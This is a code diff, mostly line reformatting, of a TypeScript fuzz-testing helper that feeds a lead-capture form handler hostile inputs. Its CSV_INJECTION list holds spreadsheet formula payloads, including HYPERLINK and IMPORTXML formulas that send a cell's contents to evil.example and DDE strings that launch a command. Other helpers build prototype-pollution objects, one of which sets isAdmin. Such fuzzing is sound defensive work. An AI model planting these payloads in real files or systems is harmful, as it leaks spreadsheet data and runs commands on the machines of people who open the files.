@@ -38,9 +38,9 @@ export class Random {
 export const CSV_INJECTION = [
 	'=HYPERLINK("http://evil.example/?q="&A1,"Нажми")',
 	'=1+1',
-	'+7 (916) =cmd|\' /C calc\'!A0',
-	'-2+3+cmd|\' /C calc\'!A0',
-	'@SUM(1+1)*cmd|\' /C calc\'!A0',
+	"+7 (916) =cmd|' /C calc'!A0",
+	"-2+3+cmd|' /C calc'!A0",
+	"@SUM(1+1)*cmd|' /C calc'!A0",
 	'\t=1+1',
 	'\r=1+1',
 	'=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
@@ -121,7 +121,15 @@ export const BAD_EMAILS = [
 	'mailto:ivan@example.com',
 ];
 
-export const GOOD_PHONES = ['8 (916) 123-45-67', '+7 916 123 45 67', '79161234567', '9161234567', '+7 701 111 0004', '+49 151 11100005', '+375 29 123-45-67'];
+export const GOOD_PHONES = [
+	'8 (916) 123-45-67',
+	'+7 916 123 45 67',
+	'79161234567',
+	'9161234567',
+	'+7 701 111 0004',
+	'+49 151 11100005',
+	'+375 29 123-45-67',
+];
 export const GOOD_EMAILS = ['ivan.petrov@mail.ru', 'Anna@Yandex.RU', 'o.smirnova+leads@gmail.com'];
 
 /** Any JSON-ish value, wrong types included, nested at most `depth` deep. */
@@ -149,13 +157,35 @@ export function anyValue(random: Random, depth = 2): unknown {
 	}
 }
 
-const KEYS = ['name', 'phone', 'email', 'Name', 'Phone', 'Email', 'message', 'comment', 'utm_source', 'tags', 'source', 'id', 'data', 'fields', 'contact', 'tranid', 'formname'];
+const KEYS = [
+	'name',
+	'phone',
+	'email',
+	'Name',
+	'Phone',
+	'Email',
+	'message',
+	'comment',
+	'utm_source',
+	'tags',
+	'source',
+	'id',
+	'data',
+	'fields',
+	'contact',
+	'tranid',
+	'formname',
+];
 
 /** An object with ordinary and hostile keys; `__proto__` and `constructor` as real own keys (as JSON.parse makes them). */
 export function anyObject(random: Random, depth = 2): Record<string, unknown> {
 	const entries: Array<[string, unknown]> = [];
 	const size = random.int(0, 5);
-	for (let i = 0; i < size; i++) entries.push([random.chance(0.8) ? random.pick(KEYS) : random.pick(HOSTILE_STRINGS).slice(0, 40), anyValue(random, depth)]);
+	for (let i = 0; i < size; i++)
+		entries.push([
+			random.chance(0.8) ? random.pick(KEYS) : random.pick(HOSTILE_STRINGS).slice(0, 40),
+			anyValue(random, depth),
+		]);
 	if (random.chance(0.2)) entries.push(['__proto__', { polluted: 'yes', isAdmin: true }]);
 	if (random.chance(0.1)) entries.push(['constructor', { prototype: { polluted: 'yes' } }]);
 	return ownKeys(entries);
@@ -164,7 +194,13 @@ export function anyObject(random: Random, depth = 2): Record<string, unknown> {
 /** Builds an object whose keys are all own properties, `__proto__` included (like JSON.parse, unlike a literal). */
 export function ownKeys(entries: Array<[string, unknown]>): Record<string, unknown> {
 	const target: Record<string, unknown> = {};
-	for (const [key, value] of entries) Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
+	for (const [key, value] of entries)
+		Object.defineProperty(target, key, {
+			value,
+			enumerable: true,
+			writable: true,
+			configurable: true,
+		});
 	return target;
 }
 
@@ -172,15 +208,39 @@ export function ownKeys(entries: Array<[string, unknown]>): Record<string, unkno
 export function fuzzLead(random: Random): Record<string, unknown> {
 	const field = (good: () => unknown, bad: () => unknown) => (random.chance(0.5) ? good() : bad());
 	const lead = ownKeys([
-		['name', field(() => random.pick(['Иван Петров', 'Anna', 'Ольга-Мария Смирнова', ...CSV_INJECTION]), () => anyValue(random, 1))],
-		['phone', field(() => random.pick(GOOD_PHONES), () => (random.chance(0.7) ? random.pick(BAD_PHONES) : anyValue(random, 1)))],
-		['email', field(() => random.pick(GOOD_EMAILS), () => (random.chance(0.7) ? random.pick(BAD_EMAILS) : anyValue(random, 1)))],
+		[
+			'name',
+			field(
+				() => random.pick(['Иван Петров', 'Anna', 'Ольга-Мария Смирнова', ...CSV_INJECTION]),
+				() => anyValue(random, 1),
+			),
+		],
+		[
+			'phone',
+			field(
+				() => random.pick(GOOD_PHONES),
+				() => (random.chance(0.7) ? random.pick(BAD_PHONES) : anyValue(random, 1)),
+			),
+		],
+		[
+			'email',
+			field(
+				() => random.pick(GOOD_EMAILS),
+				() => (random.chance(0.7) ? random.pick(BAD_EMAILS) : anyValue(random, 1)),
+			),
+		],
 	]);
 	if (random.chance(0.5)) lead.message = anyValue(random, 1);
 	if (random.chance(0.3)) lead.utm = anyValue(random, 2);
 	if (random.chance(0.3)) lead.tags = anyValue(random, 1);
 	if (random.chance(0.2)) lead.raw = anyObject(random, 2);
-	if (random.chance(0.15)) Object.defineProperty(lead, '__proto__', { value: { polluted: 'yes' }, enumerable: true, writable: true, configurable: true });
+	if (random.chance(0.15))
+		Object.defineProperty(lead, '__proto__', {
+			value: { polluted: 'yes' },
+			enumerable: true,
+			writable: true,
+			configurable: true,
+		});
 	if (random.chance(0.05)) lead.deep = deeplyNested(random.int(50, 400));
 	return lead;
 }
@@ -200,10 +260,17 @@ export function prototypePolluted(): string | null {
 }
 
 /** Runs `work` and fails when it takes longer than `limitMs`: a hang, not a slow case. */
-export async function withinTime<T>(limitMs: number, what: string, work: () => Promise<T>): Promise<T> {
+export async function withinTime<T>(
+	limitMs: number,
+	what: string,
+	work: () => Promise<T>,
+): Promise<T> {
 	let timer: NodeJS.Timeout | undefined;
 	const hang = new Promise<never>((_, reject) => {
-		timer = setTimeout(() => reject(new Error(`${what}: no answer within ${limitMs} ms (a hang)`)), limitMs);
+		timer = setTimeout(
+			() => reject(new Error(`${what}: no answer within ${limitMs} ms (a hang)`)),
+			limitMs,
+		);
 	});
 	try {
 		return await Promise.race([work(), hang]);
